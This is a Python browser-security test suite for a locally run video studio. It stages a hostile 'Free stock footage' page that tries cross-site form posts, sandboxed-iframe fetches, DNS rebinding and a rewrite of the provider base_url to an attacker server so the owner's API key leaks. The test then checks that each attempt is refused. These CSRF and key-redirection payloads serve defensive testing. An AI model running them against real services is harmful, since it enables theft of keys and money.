"""A hostile page in the owner's own Chromium tries to spend their money, steal their key and read or
delete their work; a studio shared on the network asks for its admin token. Real browser, real studio.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from playwright.sync_api import expect

from tests.browser.conftest import start_studio
from tests.servers import EngineAndStudio, ThreadServer

pytestmark = pytest.mark.slow  # a real studio in Chromium: ./test.sh runs it, plain pytest skips it

SECRET = "sk-live-OWNERS-KEY-0123456789abcdef"
SHOT = {"character": "Mara, a courier in a yellow raincoat", "environment": "a neon-lit night market"}

# What a page in a sandboxed iframe (Origin: null, like a file) tries, reporting each answer to its parent.
SANDBOXED = """
const studio = %(studio)s;
const attempts = [
  ["POST", "/api/set-key", {base_url: %(attacker)s + "/v1"}],
  ["GET", "/health"],
  ["GET", "/api/sequences"],
  ["GET", "/api/v1/videos"],
  ["GET", "/api/check-key"],
  ["DELETE", "/api/sequences/" + %(sequence)s],
  ["POST", "/api/generate", {shots: [%(shot)s]}],
  ["POST", "/v1/videos", {prompt: "free rendering for me"}],
];
(async () => {
  const report = [];
  for (const [method, path, body] of attempts) {
    const init = {method};
    if (body) { init.body = JSON.stringify(body); init.headers = {"Content-Type": "application/json"}; }
    try {
      const answer = await fetch(studio + path, init);
      report.push([method, path, answer.status, (await answer.text()).slice(0, 300)]);
    } catch (error) {
      report.push([method, path, 0, String(error)]);
    }
  }
  parent.postMessage({from: "sandbox", report}, "*");
})();
"""

# The hostile page itself: a cross-site multipart form (no preflight), a text/plain form, direct fetches.
HOSTILE = """<!doctype html><html><head><title>Free stock footage</title></head><body>
<iframe name="sink"></iframe><iframe name="sink2"></iframe>
<form id="csrf" method="POST" enctype="multipart/form-data" target="sink" action="%(studio_raw)s/api/generate">
  <input name="payload" value='%(payload)s'></form>
<form id="plain" method="POST" enctype="text/plain" target="sink2" action="%(studio_raw)s/api/set-key">
  <input name='{"base_url": "%(attacker_raw)s/v1", "x": "' value='"}'></form>
<iframe id="sandboxed" sandbox="allow-scripts" srcdoc="%(srcdoc)s"></iframe>
<img src="%(studio_raw)s/api/download-sequence/%(sequence_raw)s" alt="">
<script>
window.report = {};
addEventListener("message", (event) => {
  if (event.data.from === "sandbox") window.report.sandbox = event.data.report;
});
document.getElementById("csrf").submit();
document.getElementById("plain").submit();
(async () => {
  const direct = [];
  for (const [method, path] of [["GET", "/api/sequences"], ["DELETE", "/api/sequences/%(sequence_raw)s"]]) {
    try { const a = await fetch("%(studio_raw)s" + path, {method}); direct.push([method, path, a.status]); }
    catch (error) { direct.push([method, path, 0]); }
  }
  await fetch("%(studio_raw)s/api/generate", {method: "POST", mode: "no-cors", body: '%(payload)s'});
  window.report.direct = direct;
})();
</script></body></html>"""


class Attacker:
    """The hostile site, and a fake provider that records every Authorization header sent to it."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str]] = []
        self.page = ""
        self.server = ThreadServer(self.wsgi)
        self.url = self.server.url

    def wsgi(self, environ, start_response):
        self.seen.append((environ["PATH_INFO"], environ.get("HTTP_AUTHORIZATION", "")))
        if environ["PATH_INFO"] == "/":
            start_response("200 OK", [("Content-Type", "text/html")])
            return [self.page.encode()]
        start_response("200 OK", [("Content-Type", "application/json")])
        return [b'{"object": "list", "data": [], "has_more": false}']


@pytest.fixture
def owner(tmp_path) -> Iterator[EngineAndStudio]:
    """The owner's studio with a real (paid) key for a provider that checks it, and one finished sequence."""
    engine_env = {"LOCAL_ENGINE_API_KEY": SECRET, "LOCAL_ENGINE_LATENCY": "0.3"}
    with EngineAndStudio(tmp_path, engine_env, OPENAI_API_KEY=SECRET) as pair:
        yield pair


def snapshot(pair: EngineAndStudio, config: Path) -> dict:
    get = lambda path: requests.get(pair.base + path, timeout=30).json()  # noqa: E731 - curl from this machine
    return {
        "sequences": sorted(s["sequence_id"] for s in get("/api/sequences")["data"]),
        "clips": get("/api/v1/videos?limit=100")["data"],
        "provider": get("/api/check-key"),
        "config": config.read_bytes() if config.exists() else None,
        "paid_jobs": len(
            requests.get(pair.engine_url + "/videos?limit=100", headers={"Authorization": f"Bearer {SECRET}"}).json()[
                "data"
            ]
        ),
    }


def test_a_hostile_page_cannot_spend_steal_read_or_delete(owner, page_and_console, tmp_path):
    page, console = page_and_console
    started = requests.post(owner.base + "/api/generate", json={"shots": [SHOT], "seconds": "4"}, timeout=30).json()
    sequence_id = started["sequence_id"]
    owner_wait(owner, sequence_id)
    before = snapshot(owner, tmp_path / "config.json")
    attacker = Attacker()
    js = lambda value: json.dumps(value)  # noqa: E731
    sandboxed = SANDBOXED % {
        "studio": js(owner.base),
        "attacker": js(attacker.url),
        "sequence": js(sequence_id),
        "shot": json.dumps(SHOT),
    }
    attacker.page = HOSTILE % {
        "studio_raw": owner.base,
        "attacker_raw": attacker.url,
        "sequence_raw": sequence_id,
        "payload": json.dumps({"shots": [SHOT], "seconds": "4"}),
        "srcdoc": ("<script>" + sandboxed + "</script>").replace("&", "&amp;").replace('"', "&quot;"),
    }
    try:
        page.goto(attacker.url + "/")
        page.wait_for_function("() => window.report.sandbox && window.report.direct", timeout=30_000)
        page.wait_for_timeout(1500)  # let the two form posts land
        report = page.evaluate("() => window.report")
        page.goto("about:blank")
        console.logged.clear()  # the hostile page's own failed loads are not the studio page's errors
    finally:
        attacker.server.stop()
    print("sandboxed iframe:", [row[:3] for row in report["sandbox"]], "page itself:", report["direct"])
    for method, path, status, body in report["sandbox"]:
        if path == "/health":
            assert status == 200 and SECRET[8:-4] not in body and "base_url" not in body
        else:
            assert status in (0, 403), (method, path, status, body)  # 0: the browser blocked it outright
    assert all(status in (0, 403) for _, _, status in report["direct"]), report["direct"]
    # Nothing was paid for, changed, deleted or sent anywhere else.
    assert snapshot(owner, tmp_path / "config.json") == before
    assert not [path for path, _ in attacker.seen if path.startswith("/v1")], attacker.seen  # no provider call
    assert not any(SECRET in auth for _, auth in attacker.seen)
    # DNS rebinding: a foreign name in Host is refused before anything happens.
    forged = requests.post(
        owner.base + "/api/generate", json={"shots": [SHOT]}, headers={"Host": "free-footage.example"}, timeout=30
    )
    assert forged.status_code == 421 and forged.json()["error"]["code"] == "host_not_allowed"
    assert snapshot(owner, tmp_path / "config.json") == before


def owner_wait(pair: EngineAndStudio, sequence_id: str) -> None:
    from tests.servers import poll_json

    url = f"{pair.base}/api/sequences/{sequence_id}"
    assert poll_json(url, lambda s: s["status"] in ("completed", "failed"))["status"] == "completed"


def test_a_studio_shared_on_the_network_asks_for_its_admin_token(tmp_path_factory, page_and_console):
    page, console = page_and_console
    admin = "admin-token-for-the-team-2026"
    shared = start_studio(tmp_path_factory, "shared", HOST="0.0.0.0", ADMIN_TOKEN=admin)
    try:
        assert requests.get(shared.url + "/api/sequences", timeout=30).status_code == 401
        for path in ("/api/capabilities", "/api/templates", "/api/check-key"):
            console.allow(401, path)
        page.goto(shared.url + "/")
        dialog = page.locator("[data-unlock-dialog]")
        expect(dialog).to_contain_text("shared on the network")
        dialog.get_by_label("Admin token").fill(admin)
        dialog.get_by_role("button", name="Sign in").click()
        expect(dialog).to_be_hidden()
        expect(page.locator("[data-provider-status]")).to_contain_text("Local engine")
        expect(page.locator("[data-estimate]")).to_contain_text("free: local engine")
    finally:
        shared.process.stop()
